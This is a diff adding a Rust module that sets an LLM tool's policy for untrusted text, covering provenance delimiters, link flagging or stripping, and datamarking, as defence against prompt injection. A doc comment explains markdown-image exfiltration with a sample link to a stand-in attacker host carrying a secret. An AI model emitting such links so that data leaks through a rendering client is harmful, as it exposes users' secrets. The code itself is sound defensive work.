@@ -1,0 +1,67 @@
+//! The untrusted-text policy of a tool: how values are marked in the text channel
+//! ([`Provenance`]), what happens to links ([`UrlPolicy`]) and datamarking.
+
+/// How untrusted values are marked in the text channel.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize, serde::Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Provenance {
+    /// In prose and table text, each value between `«` and `»`, with the sources named once
+    /// in the first line (`«…» is untrusted text from search_tickets.subject`); a `«` or `»`
+    /// inside a value is neutralised, so a value cannot close its delimiter. In a JSON text
+    /// channel, where there is no first line to name them in, the [`Tag`](Provenance::Tag)
+    /// form. Two tokens a value instead of about fourteen.
+    #[default]
+    Compact,
+    /// `<untrusted source="tool.field">…</untrusted>` around every value.
+    Tag,
+    /// `<untrusted-3f9a… source="tool.field">…</untrusted-3f9a…>`, with the call's random
+    /// nonce, so content cannot guess the closing delimiter.
+    RandomTag,
+    /// No delimiter (sanitising and caps still apply).
+    Off,
+}
+
+/// What happens to links in untrusted text: http(s), ftp and `www.` URLs, markdown links and
+/// images (inline and reference definitions) and HTML tags that load or link (`<img>`, `<a>`,
+/// `<iframe>`, …). Markdown image links are a known exfiltration path: a client that renders
+/// `![](https://attacker/?q=secret)` sends the secret without a click.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize, serde::Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum UrlPolicy {
+    /// Links are left as written.
+    #[default]
+    Keep,
+    /// The text stays, the address goes; the host is named so the model can still say where
+    /// it pointed: `[docs](https://a.example/x)` → `docs [link removed: a.example]`,
+    /// `![chart](https://b.example/c.png)` → `chart [image removed: b.example]`, a bare URL →
+    /// `[link removed: a.example]`.
+    Flag,
+    /// Links and images are removed, alt text included; a link's text stays (`[docs](…)` →
+    /// `docs`).
+    Strip,
+}
+
+/// The untrusted-text policy of a tool, loadable from configuration:
+///
+/// ```
+/// use toolshape::untrusted::{Provenance, UntrustedPolicy, UrlPolicy};
+///
+/// let policy: UntrustedPolicy =
+///     toml::from_str("provenance = \"random_tag\"\nurls = \"flag\"\ndatamark = \"ˆ\"").unwrap();
+/// assert_eq!(policy.provenance, Provenance::RandomTag);
+/// assert_eq!(policy.urls, UrlPolicy::Flag);
+/// assert_eq!(policy.datamark, Some('ˆ'));
+/// assert!(toml::from_str::<UntrustedPolicy>("provenence = \"tag\"").is_err());
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct UntrustedPolicy {
+    /// How values are marked in the text channel.
+    pub provenance: Provenance,
+    /// Datamarking (spotlighting) in the text channel: every space in the content is replaced
+    /// by this character (`"ˆ"`, U+02C6, is the usual choice), so the model can tell content
+    /// from instructions word by word. `None` (the default) leaves spaces alone.
+    pub datamark: Option<char>,
+    /// What happens to links, in both channels.
+    pub urls: UrlPolicy,
+}
